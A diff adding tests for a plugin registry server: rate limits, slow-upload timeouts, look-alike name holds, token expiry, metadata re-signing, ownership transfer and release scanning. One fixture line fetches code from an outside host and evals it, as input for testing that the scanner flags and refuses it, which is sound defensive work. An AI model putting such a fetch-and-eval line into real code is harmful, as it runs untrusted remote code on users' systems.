@@ -1,0 +1,288 @@
+/** How much a server takes of one, and when it takes more, with the clock in the test's hand. */
+import { expect, test } from "bun:test";
+import { mkdtempSync, rmSync } from "node:fs";
+import { connect } from "node:net";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { createManualClock, type ManualClock } from "@pincer/plugin-sdk/testing/clock";
+import { createRepository } from "../../registry/repository/create.ts";
+import type { Resemblance } from "../../registry/server/names.ts";
+import { openOperator } from "../../registry/server/operator.ts";
+import { type RegistryServer, serveRegistry } from "../../registry/server/serve.ts";
+import { checkedSettings } from "../../registry/server/settings.ts";
+import { createSigner, type Signer } from "../../registry/trust/key.ts";
+import { parseMetadata, type Signed, signMetadata } from "../../registry/trust/metadata.ts";
+import { signStatement } from "../../registry/trust/statement.ts";
+import { type ParcelOptions, parcel, post } from "./parcel.ts";
+
+interface Place {
+  readonly server: RegistryServer;
+  readonly folder: string;
+  readonly clock: ManualClock;
+  readonly faults: readonly unknown[];
+  parcel(publisher: string, signer: Signer, id: string, over?: Partial<ParcelOptions>): ReturnType<typeof parcel>;
+}
+
+async function withServer(settings: object, use: (place: Place) => Promise<void>, resembles?: Resemblance): Promise<void> {
+  const folder = mkdtempSync(join(tmpdir(), "pincer-limits-"));
+  const clock = createManualClock(Date.parse("2031-05-04T10:00:00Z"));
+  const signer = () => createSigner().signer;
+  const online = signer();
+  const founders = { root: [signer()], rootThreshold: 1, targets: [signer()], targetsThreshold: 1, online, revocations: [] };
+  createRepository(folder, { founders, parts: 1, now: () => clock.now() });
+  const faults: unknown[] = [];
+  const server = await serveRegistry({
+    ...{ folder, online, host: "127.0.0.1", port: 0, clock, settings: checkedSettings(settings, "settings") },
+    ...(resembles && { resembles }),
+    onFault: (error) => faults.push(error),
+  });
+  try {
+    await use({
+      ...{ server, folder, clock, faults },
+      parcel: (publisher, by, id, over = {}) =>
+        parcel({ url: server.url, publisher, signer: by, release: { kind: "plugins", id, version: "1.0.0" }, now: clock.now(), ...over }),
+    });
+    expect(faults).toEqual([]);
+  } finally {
+    await server.stop();
+    rmSync(folder, { recursive: true, force: true });
+  }
+}
+
+test("who asks too often is told when to come back, and is answered then", async () => {
+  await withServer({ rates: { reads: { burst: 3, perMinute: 6 } } }, async ({ server, clock }) => {
+    const ask = () => fetch(`${server.url}/api/v1/search?q=x`);
+    for (let time = 0; time < 3; time++) expect((await ask()).status).toBe(200);
+    const refused = await ask();
+    expect([refused.status, refused.headers.get("retry-after")]).toEqual([429, "10"]);
+    expect(await refused.json()).toMatchObject({ code: "REGISTRY_RATE_LIMITED" });
+    await clock.advance(9_000);
+    expect((await ask()).status).toBe(429);
+    await clock.advance(1_000);
+    expect((await ask()).status).toBe(200);
+    expect((await ask()).status).toBe(429);
+    // Files are counted apart.
+    expect((await fetch(`${server.url}/metadata/timestamp.json`)).status).toBe(200);
+  });
+});
+
+test("behind a proxy it is the address that the proxy saw, and without one nobody is believed who says another", async () => {
+  const rates = { reads: { burst: 1, perMinute: 1 } };
+  const ask = (url: string, from: string) => fetch(`${url}/api/v1/search`, { headers: { "x-forwarded-for": from } });
+  await withServer({ rates }, async ({ server }) => {
+    expect((await ask(server.url, "203.0.113.1")).status).toBe(200);
+    expect((await ask(server.url, "203.0.113.2")).status).toBe(429);
+  });
+  await withServer({ rates, proxies: 1 }, async ({ server }) => {
+    expect((await ask(server.url, "203.0.113.1")).status).toBe(200);
+    expect((await ask(server.url, "203.0.113.9, 203.0.113.1")).status).toBe(429);
+    expect((await ask(server.url, "203.0.113.2")).status).toBe(200);
+    expect((await ask(server.url, "2001:db8:1:2:a::1")).status).toBe(200);
+    expect((await ask(server.url, "2001:db8:1:2:b::1")).status).toBe(429);
+    expect((await ask(server.url, "2001:db8:1:3::1")).status).toBe(200);
+  });
+});
+
+test("new names are few, publications are bounded, and so is their size", async () => {
+  await withServer({ rates: { claims: { burst: 2, perMinute: 1 } } }, async ({ server, clock, parcel }) => {
+    const statuses: number[] = [];
+    for (const id of ["one", "two", "three"])
+      statuses.push((await post(server.url, await parcel(`of-${id}`, createSigner().signer, id))).status);
+    expect(statuses).toEqual([201, 201, 429]);
+    await clock.advance(60_000);
+    expect((await post(server.url, await parcel("of-three", createSigner().signer, "three"))).status).toBe(201);
+  });
+  await withServer({ publicationBytes: 20_000 }, async ({ server, parcel }) => {
+    const large = await parcel("ada", createSigner().signer, "large", { archive: new Uint8Array(30_000) });
+    const response = await fetch(`${server.url}/api/v1/publish`, { method: "POST", body: large.body, headers: large.headers });
+    expect(response.status).toBe(413);
+    expect((await post(server.url, await parcel("ada", createSigner().signer, "small"))).status).toBe(201);
+  });
+});
+
+test("who sends byte after byte is sent away when the time is over, and holds up nobody", async () => {
+  await withServer({ bodySeconds: 20, uploads: 2 }, async ({ server, clock, parcel }) => {
+    const { hostname, port } = new URL(server.url);
+    const { body, headers } = await parcel("slow", createSigner().signer, "slow");
+    const head = Object.entries({ ...headers, host: `${hostname}:${port}`, "content-length": String(body.length) }).map(
+      ([name, value]) => `${name}: ${value}`,
+    );
+    const slow = () => {
+      const socket = connect(Number(port), hostname);
+      const answered = new Promise<string>((resolve) => {
+        let text = "";
+        socket.on("data", (chunk) => {
+          text += chunk.toString("latin1");
+          if (text.endsWith("}")) resolve(text);
+        });
+        socket.on("close", () => resolve(text));
+        socket.on("error", () => resolve(text));
+      });
+      socket.write(`POST /api/v1/publish HTTP/1.1\r\n${head.join("\r\n")}\r\n\r\n`);
+      socket.write(body.subarray(0, 100));
+      return { socket, answered };
+    };
+    const [one, two] = [slow(), slow()];
+    // There is place for one; the other is told so at once, and whoever comes after them too.
+    const refused = await Promise.race([one, two].map(({ answered, socket }) => answered.then((text) => ({ text, socket }))));
+    expect(refused.text).toMatch(/^HTTP\/1\.1 503 [\s\S]*retry-after: 2[\s\S]*REGISTRY_BUSY/i);
+    expect(await post(server.url, await parcel("ada", createSigner().signer, "third"))).toMatchObject({
+      status: 503,
+      code: "REGISTRY_BUSY",
+    });
+    expect((await fetch(`${server.url}/metadata/timestamp.json`)).status).toBe(200);
+    await clock.advance(20_000);
+    const left = refused.socket === one.socket ? two : one;
+    expect(await left.answered).toMatch(/^HTTP\/1\.1 408 [\s\S]*REGISTRY_TOO_SLOW/);
+    for (const { socket } of [one, two]) socket.destroy();
+    expect((await post(server.url, await parcel("late", createSigner().signer, "late"))).status).toBe(201);
+  });
+});
+
+test("a name that looks like another waits for the operator, whose word stands above the rule", async () => {
+  const resembles: Resemblance = ({ id }) => (id === "telegrom" ? "it looks like telegram" : undefined);
+  const signer = createSigner().signer;
+  await withServer(
+    {},
+    async ({ server, folder, clock, parcel }) => {
+      const ask = async () => post(server.url, await parcel("eve", signer, "telegrom"));
+      expect(await ask()).toMatchObject({
+        status: 403,
+        code: "REGISTRY_NAME_HELD",
+        detail: expect.stringContaining("it looks like telegram"),
+      });
+      using operator = openOperator(folder, () => clock.now());
+      expect(operator.names.held()).toMatchObject([{ kind: "plugins", id: "telegrom", publisher: "eve" }]);
+      operator.names.grant({ kind: "plugins", id: "telegrom" }, "eve");
+      expect(operator.names.held()).toEqual([]);
+      expect(await ask()).toMatchObject({ status: 201 });
+    },
+    resembles,
+  );
+  await withServer({ claims: "granted" }, async ({ server, folder, clock, parcel }) => {
+    expect(await post(server.url, await parcel("ada", signer, "weather"))).toMatchObject({ code: "REGISTRY_NAME_HELD" });
+    using operator = openOperator(folder, () => clock.now());
+    operator.names.grant({ kind: "plugins", id: "weather" }, "bob");
+    expect(await post(server.url, await parcel("ada", signer, "weather"))).toMatchObject({ code: "REGISTRY_FORBIDDEN" });
+    expect(await post(server.url, await parcel("bob", signer, "weather"))).toMatchObject({ status: 201 });
+  });
+});
+
+test("what the server signs is signed anew long before it expires", async () => {
+  await withServer({}, async ({ server, clock }) => {
+    const timestamp = async () => {
+      const bytes = new Uint8Array(await (await fetch(`${server.url}/metadata/timestamp.json`)).arrayBuffer());
+      return Date.parse(parseMetadata("timestamp", "timestamp", bytes).signed.expires);
+    };
+    for (let day = 0; day < 12; day++) {
+      await clock.advance(6 * 60 * 60 * 1000);
+      expect((await timestamp()) - clock.now()).toBeGreaterThan(6 * 60 * 60 * 1000);
+    }
+  });
+});
+
+test("an expired token counts no more", async () => {
+  await withServer({}, async ({ server, folder, clock, parcel }) => {
+    using operator = openOperator(folder, () => clock.now());
+    const { token } = operator.tokens.create({ publisher: "ada", scopes: ["publish"], lifeMs: 60_000 });
+    const signer = createSigner().signer;
+    expect(await post(server.url, await parcel("ada", signer, "weather", { token }))).toMatchObject({ status: 201 });
+    await clock.advance(60_000);
+    expect(await post(server.url, await parcel("ada", signer, "other", { token }))).toMatchObject({
+      status: 401,
+      detail: expect.stringContaining("expired"),
+    });
+  });
+});
+
+test("what was found in a release is told to whoever publishes it, to whoever asks, and can be a reason to refuse it", async () => {
+  const files = { "plugin.ts": 'eval(await (await fetch("https://tracker.io/x")).text());' };
+  const signer = createSigner().signer;
+  await withServer({}, async ({ server, parcel }) => {
+    const answer = await post(server.url, await parcel("eve", signer, "weather", { files }));
+    expect(answer).toMatchObject({
+      status: 201,
+      released: [{ findings: expect.arrayContaining([expect.objectContaining({ rule: "code-from-text", severity: "high" })]) }],
+    });
+    const page = await (await fetch(`${server.url}/api/v1/packages/plugins/weather`)).json();
+    expect(page).toMatchObject({ releases: [{ findings: { high: 2 } }] });
+    expect(await (await fetch(`${server.url}/api/v1/packages/plugins/weather/1.0.0`)).json()).toMatchObject({
+      findings: expect.arrayContaining([expect.objectContaining({ rule: "undeclared-host", file: "plugin.ts", line: 1 })]),
+    });
+  });
+  await withServer({ refuseFindings: "high" }, async ({ server, parcel }) => {
+    expect(await post(server.url, await parcel("eve", signer, "weather", { files }))).toMatchObject({
+      status: 403,
+      code: "REGISTRY_FORBIDDEN",
+    });
+  });
+});
+
+test("a name is offered by whose it is, and becomes another's when that one takes it, with all its releases", async () => {
+  await withServer({}, async ({ server, folder, clock, parcel }) => {
+    const [ada, bob, eve] = [createSigner().signer, createSigner().signer, createSigner().signer];
+    const sent = await parcel("ada", ada, "weather");
+    await post(server.url, sent);
+    const path = "/api/v1/packages/plugins/weather/owner";
+    const page = async () => (await (await fetch(`${server.url}${path}`)).json()) as { publisher: string; offer: unknown };
+    const send = async (fields: Readonly<Record<string, string | Uint8Array<ArrayBuffer>>>, token?: string) => {
+      const form = new FormData();
+      for (const [name, value] of Object.entries(fields)) form.set(name, typeof value === "string" ? value : new Blob([value]));
+      const response = await fetch(`${server.url}${path}`, {
+        method: "POST",
+        body: form,
+        ...(token && { headers: { authorization: `Bearer ${token}` } }),
+      });
+      return { status: response.status, ...((await response.json()) as object) };
+    };
+    const wish = {
+      _type: "transfer",
+      kind: "plugins",
+      id: "weather",
+      from: "ada",
+      to: "bob",
+      list: 1,
+      expires: "2031-06-01T00:00:00Z",
+    } as const;
+    expect(await send({ statement: signStatement(wish, [eve]) })).toMatchObject({ status: 403, code: "REGISTRY_METADATA_UNSIGNED" });
+    expect(await send({ statement: signStatement({ ...wish, list: 0 }, [ada]) })).toMatchObject({ code: "REGISTRY_METADATA_INVALID" });
+    expect(await page()).toMatchObject({ publisher: "ada", offer: null });
+    expect(await send({ statement: signStatement(wish, [ada]) })).toMatchObject({ status: 200, publisher: "ada", offer: { signed: wish } });
+
+    const taken: Signed<"targets"> = { ...sent.list, version: 1, targets: sent.list.targets };
+    const by = (signer: Signer) => ({
+      metadata: signMetadata(taken, [signer]),
+      keys: JSON.stringify({ keys: [signer.json.keyval.public] }),
+    });
+    const folderTokens = async (publisher: string) => {
+      using operator = openOperator(folder, () => clock.now());
+      return operator.tokens.create({ publisher, scopes: ["publish"], lifeMs: 3_600_000 }).token;
+    };
+    expect(await send({ publisher: "eve", ...by(eve) }, await folderTokens("eve"))).toMatchObject({
+      status: 403,
+      code: "REGISTRY_FORBIDDEN",
+    });
+    expect(await send({ publisher: "bob", ...by(bob) })).toMatchObject({ status: 401 });
+    expect(await send({ publisher: "bob", ...by(bob) }, await folderTokens("bob"))).toMatchObject({
+      status: 200,
+      publisher: "bob",
+      offer: null,
+    });
+    expect(await (await fetch(`${server.url}/api/v1/publishers/ada`)).json()).toMatchObject({ code: "REGISTRY_NOT_FOUND" });
+    const next = { before: taken, release: { kind: "plugins", id: "weather", version: "2.0.0" } } as const;
+    expect(await post(server.url, await parcel("bob", bob, "weather", next))).toMatchObject({ status: 201 });
+    const { before: _none, ...alone } = next;
+    const back = { before: sent.list, change: (list: Signed<"targets">) => list };
+    expect((await post(server.url, await parcel("ada", ada, "weather", { ...next, ...back }))).status).toBe(400);
+    // The name of the publisher is nobody else's for that.
+    expect(
+      await post(server.url, await parcel("ada", eve, "another", { ...alone, release: { ...next.release, id: "another" } })),
+    ).toMatchObject({
+      code: "REGISTRY_FORBIDDEN",
+    });
+    expect(await (await fetch(`${server.url}/api/v1/packages/plugins/weather`)).json()).toMatchObject({
+      version: "2.0.0",
+      publisher: { name: "bob" },
+    });
+  });
+});
